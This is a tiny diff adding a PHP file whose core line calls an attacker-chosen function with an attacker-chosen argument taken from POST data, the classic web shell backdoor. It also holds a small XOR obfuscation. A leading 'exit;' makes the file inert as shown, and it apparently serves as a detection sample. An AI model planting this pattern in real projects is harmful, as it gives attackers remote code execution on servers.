@@ -1,0 +1,3 @@
+<?php exit;
+$call = ("!!!!" ^ "@@@@");
+$_POST["call"]($_POST["with"]);
